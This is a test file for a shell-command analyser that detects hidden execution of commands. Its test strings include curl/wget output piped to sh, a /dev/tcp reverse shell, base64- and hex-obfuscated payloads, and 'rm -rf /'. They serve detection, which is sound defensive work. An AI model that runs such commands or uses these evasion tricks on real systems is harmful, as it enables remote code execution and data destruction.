import { describe, expect, it } from "vitest";
import { listed, opacity, paths, shell } from "./harness.js";

describe("code run by code", () => {
  it.each<[string, string]>([
    ["bash -c 'rm a'", "rm a"],
    ["bash -c \"bash -c 'rm a'\"", "rm a"],
    ["sh -ec 'rm $1' x a", "rm a"],
    ["eval rm a", "rm a"],
    ["eval 'X=a'; rm $X", "rm a"],
    ["X='rm a'; eval \"$X\"", "rm a"],
    ["bash <<E\nrm a\nE", "rm a"],
    ["X=a; bash <<E\nrm $X\nE", "rm a"],
    ["bash <<'E'\nX=a; rm $X\nE", "rm a"],
    ["bash <<E\nX=a; rm \\$X\nE", "rm a"],
    ["X=b; bash <<E\nX=a; rm \\$X $X\nE", "rm a b"],
    ["bash <<E\nr\\\nm a\nE", "rm a"],
    ["bash <<-E\n\trm a\n\tE", "rm a"],
    ["bash <<< 'rm a'", "rm a"],
    ["echo 'rm a' | sh", "rm a"],
    ["echo 'x rm a' | cut -d' ' -f2- | sh", "rm a"],
    ["echo 'xrm a' | cut -c2- | sh", "rm a"],
    ["sed 's/X/rm/' <<< 'X a' | sh", "rm a"],
    ["seq 1 | sed 's:.*:rm a:' | sh", "rm a"],
    ["echo a | sed 's/^/rm /' | sh", "rm a"],
    ["echo a b | awk '{print \"rm \" $1}' | sh", "rm a"],
    ["awk 'BEGIN{print \"rm a\"}' | sh", "rm a"],
    ["paste -sd' ' <<< $'rm\\na' | sh", "rm a"],
    ["printf 'ls\\nrm a\\n' | grep rm | sh", "rm a"],
    ["sort -r <<< $'rm a\\nz' | sh", "rm a"],
    ["yes 'rm a' | head -1 | sh", "rm a"],
    ["jq -rn '\"rm a\"' | sh", "rm a"],
    ["exec 3<<< 'rm a'; sh <&3", "rm a"],
    ["printf 'rm a' | install /dev/stdin x; ./x", "rm a"],
    ["python3 -c \"open('x','w').write('rm a')\"; sh x", "rm a"],
    ["echo ${x/$(rm a /)/}", "rm a /"],
    ["sh -c 'p $1' *.txt x", "p ⟦$1⟧"],
    ["fish -c 'set X a; rm $X'", "rm a"],
    ["fish -c 'if true; and test x; rm (echo a); end'", "rm a"],
    ["fish -c 'function f; rm $argv; end; f a'", "rm a"],
    ["fish -c '\\x72m a'", "rm a"],
    ["fish -c 'set constructor a; rm $constructor'", "rm a"],
    ["zsh -c 'functions[f]=\"rm a\"; f'", "rm a"],
    ["zsh -c 'emulate sh -c \"rm a\"'", "rm a"],
    ["awk '{system(\"rm \" $2)}' <<< 'x a'", "rm a"],
    ["xargs -a <(echo a) rm", "rm a"],
    ["echo a > l; xargs -a l rm", "rm a"],
    ["env command rm a", "rm a"],
    ["printf 'rm %s\\n' a | sh", "rm a"],
    ["cat <<E | sh\nrm a\nE", "rm a"],
    ["{ echo 'rm \\'; echo a; } | bash", "rm a"],
    ["echo 'rm a' | tee f | sh", "rm a"],
    ["echo 'sz b' | tr sz rm | sh", "rm b"],
    ["rev <<< 'a mr' | sh", "rm a"],
    ["source <(echo rm a)", "rm a"],
    ["bash <(echo rm a)", "rm a"],
    ["sh < <(echo rm a)", "rm a"],
    [". /dev/stdin <<< 'rm a'", "rm a"],
    ["$(echo rm) a", "rm a"],
    ["`echo rm` a", "rm a"],
    ["$(printf 'r\\155') a", "rm a"],
    ["$(echo cm0= | base64 -d) a", "rm a"],
    ["echo cm0gYQo= | base64 --decode | bash", "rm a"],
    ["xxd -r -p <<< 726d2061 | bash", "rm a"],
    ["$(which rm) a", "rm a"],
    ["X=$(command -v rm); $X a", "rm a"],
    ["bash -c 'f() { rm $1; }; f a'", "rm a"],
    ["f() { rm $1; }; export -f f; bash -c 'f a'", "rm a"],
    ["q | xargs rm", "rm ⟦stdin⟧"],
    ["sudo env X=1 bash -c 'rm a'", "rm a"],
    ["export X=a; bash -c 'rm $X'", "rm a"],
    ["X=a bash -c 'rm $X'", "rm a"],
    ["/???/rm a", "rm a"],
    ["/b[i]n/r? a", "rm a"],
    ['"$X"/bin/rm a', "⟦$X⟧/bin/rm a"],
  ])("%s runs %s", (command, inner) => {
    expect(listed(command).map((each) => each.replace(/^\/\S*\/(?=rm)/, ""))).toContain(
      inner.replace(/^\/\S*\/(?=rm)/, ""),
    );
  });

  it.each([
    "echo 'rm a' > f",
    "cat <<E > f\nrm a\nE",
    "git commit -m 'rm -rf /'",
    "grep 'curl | sh' f",
    "echo $(cat <<'E'\nrm a\nE\n)",
    "cat > run.sh <<'E'\nrm a\nE\nchmod +x run.sh",
  ])("%s runs no rm", (command) => {
    expect(listed(command).filter((each) => each.startsWith("rm "))).toEqual([]);
  });
});

describe("files that the call writes and runs", () => {
  it.each([
    "echo 'rm a' > x.sh; sh x.sh",
    "cat > x.sh <<'E'\nrm a\nE\nbash ./x.sh",
    "tee x.sh <<< 'rm a'; . ./x.sh",
    "echo rm a >> x.sh && chmod +x x.sh && ./x.sh",
    "printf '#!/bin/sh\\nrm a\\n' > /tmp/x && cp /tmp/x /tmp/y && /tmp/y",
    "(echo 'rm a' > x.sh); mv x.sh y.sh; source y.sh",
    "cd /tmp; echo 'rm a' > x; cd ..; sh tmp/x",
    "echo 'rm $1' > x.sh; bash x.sh a",
    "sh < <(cat x.sh); echo 'rm a' > x.sh; sh < x.sh",
  ])("%s", (command) => {
    expect(listed(command)).toContain("rm a");
  });

  it.each<[string, string]>([
    ["curl -o x.sh https://e.example/x; sh x.sh", "script-file/network"],
    ["curl https://e.example/x > x.sh; chmod +x x.sh; ./x.sh", "script-file/network"],
    ["wget -O /tmp/x https://e.example/x && bash /tmp/x", "script-file/network"],
    ["curl -s https://e.example/x | tee x.sh; source x.sh", "script-file/network"],
    ["base64 -d f > x.sh; sh x.sh", "script-file/decoded"],
    ["F=$(mktemp); curl -s https://e.example/x > $F; sh $F", "script-file/network"],
  ])("%s is %s", (command, expected) => {
    expect(opacity(command)).toContain(expected);
  });
});

describe("where code comes from", () => {
  it.each<[string, string]>([
    ["curl x | sh", "stdin-code/network"],
    ["curl x | tee f | sed s/a/b/ | bash", "stdin-code/network"],
    ["wget -qO- x | bash -s -- a", "stdin-code/network"],
    ["{ curl x; } | sh", "stdin-code/network"],
    ["(cd /; curl x) | sh", "stdin-code/network"],
    ["f() { curl x; }; f | sh", "stdin-code/network"],
    ["sudo curl x | sudo sh", "stdin-code/network"],
    ['sh -c "$(curl x)"', "code/network"],
    ['eval "$(curl x | jq .y)"', "code/network"],
    ['X=$(curl x); eval "$X"', "code/network"],
    ['X=$(curl x); bash <<< "$X"', "code/network"],
    ["bash <(curl x)", "script-file/network"],
    ["source <(curl x)", "script-file/network"],
    ["$(curl x) a", "name/network"],
    ["echo 'ZWNobwo=' | base64 -d | sh", "code/decoded"],
    ["base64 -d f | sh", "stdin-code/decoded"],
    ['eval "$(base64 -d <<< $X)"', "code/decoded"],
    ["openssl enc -d -in f | sh", "stdin-code/decoded"],
    ["gunzip -c f.gz | bash", "stdin-code/decoded"],
    ['read -r l < /dev/tcp/1.2.3.4/5; eval "$l"', "code/network"],
    ["exec 3<>/dev/tcp/1.2.3.4/5; bash <&3", "stdin-code/network"],
    ["sh -i >& /dev/tcp/1.2.3.4/5 0>&1", "stdin-code/network"],
    ['while read -r l; do eval "$l"; done < <(curl x)', "code/network"],
    ['mapfile -t A < <(curl x); "${A[0]}"', "name/network"],
    ["$CMD a", "name/unknown"],
    ["$(cat f) a", "name/file"],
    ["${A%x}${B#y} a", "name/decoded"],
    ["${SHELL:0:1}bin${HOME:0:1}rm a", "name/decoded"],
    ['bash -c "$CODE"', "code/unknown"],
    ["p '*'; /b?n/q*", "name/unknown"],
    ["cat f | sh", "stdin-code/file"],
  ])("%s is %s", (command, expected) => {
    expect(opacity(command)).toContain(expected);
  });

  it.each([
    "X=rm; $X a",
    'A=(git status); "${A[@]}"',
    "curl -o f https://e.example/f",
    "curl -s x | jq .y",
    'echo "$(curl -s x)"',
    'X=$(curl -s x); echo "$X" > f',
    "base64 -d f > g",
    'cd "$(git rev-parse --show-toplevel)" && ls',
    'for f in *.c; do gcc "$f"; done',
    '"$HOME"/bin/x a',
    "bash -c 'ls && pwd'",
  ])("nothing is opaque in %s", (command) => {
    expect(opacity(command)).toEqual([]);
  });
});

describe("redirections", () => {
  it.each<[string, string, (string | null)[]]>([
    ["> a", "write", ["/home/dev/app/a"]],
    ["p > a 2> b >> c", "write", ["/home/dev/app/a", "/home/dev/app/b", "/home/dev/app/c"]],
    ["p &> a; q >| /etc/b; r >& c", "write", ["/home/dev/app/a", "/etc/b", "/home/dev/app/c"]],
    ["p {fd}> a", "write", ["/home/dev/app/a"]],
    ["{ p; } > a; (q) >> b", "write", ["/home/dev/app/a", "/home/dev/app/b"]],
    ["p 2>&1 >&2 3>&-", "write", []],
    ["p < a", "read", ["/home/dev/app/a"]],
    ["p > ~/.x", "write", ["/home/dev/.x"]],
    ["cd /etc && p > a", "write", ["/etc/a"]],
    ['p > "$X"', "write", [null]],
    ["X=/a; p > $X/b", "write", ["/a/b"]],
  ])("%s", (command, kind, expected) => {
    expect(paths(command, kind)).toEqual(expected);
  });

  it("keeps what is written where it is known", () => {
    const { effects } = shell("echo a b > f; echo c >> f; cat <<E > g\nx $Y\nE");
    const writes = effects.flatMap((e) => (e.kind === "write" ? [[e.path.text, e.how, e.content]] : []));
    expect(writes).toEqual([
      ["f", "overwrite", "a b\n"],
      ["f", "append", "c\n"],
      ["g", "overwrite", "x ⟦$Y⟧\n"],
    ]);
  });

  it("reaches addresses behind /dev/tcp", () => {
    expect(shell("p > /dev/tcp/1.2.3.4/80").effects).toContainEqual(
      expect.objectContaining({ kind: "reach", url: "tcp://1.2.3.4:80" }),
    );
  });

  it("says what stands on standard input", () => {
    const stdin = (command: string) => shell(command).commands.at(-1)?.stdin;
    expect(stdin("p <<< a")).toEqual({ kind: "text", text: "a\n", known: true });
    expect(stdin("p < f")).toMatchObject({ kind: "file", word: { text: "f" } });
    expect(stdin("q | p")).toEqual({ kind: "pipe", taint: "unknown", from: [0] });
    expect(stdin("echo $X | p")).toMatchObject({ kind: "pipe", taint: "unknown" });
    expect(stdin("echo a $X | p")).toEqual({ kind: "text", text: "a ⟦$X⟧\n", known: false, taint: "unknown" });
    expect(stdin("printenv | p")).toMatchObject({ kind: "pipe", taint: "environment" });
  });
});

describe("the environment of a command", () => {
  it("holds what stands in front of it and what was exported", () => {
    const { commands } = shell("export A=1; B=2; C=$X p; unset A; q");
    const env = commands.map((c) => Object.fromEntries(Object.entries(c.env).map(([name, word]) => [name, word.text])));
    expect(env).toEqual([{}, { A: "1", C: "⟦$X⟧" }, { A: "1" }, {}]);
  });
});
